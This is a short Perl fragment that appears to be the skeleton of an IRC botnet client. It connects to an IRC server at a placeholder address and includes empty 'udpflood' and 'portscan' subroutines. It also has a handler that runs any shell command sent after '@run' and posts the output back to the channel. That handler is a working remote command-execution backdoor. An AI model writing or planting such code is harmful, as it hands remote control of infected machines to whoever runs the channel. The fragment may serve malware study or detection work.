#!/usr/bin/perl
use IO::Socket;
my $irc_server = "192.0.2.1";
sub udpflood { }
sub portscan { }
if ($m =~ /^\@run (.*)/) { my $c = $1; print $s "PRIVMSG $chan :" . `$c`; }
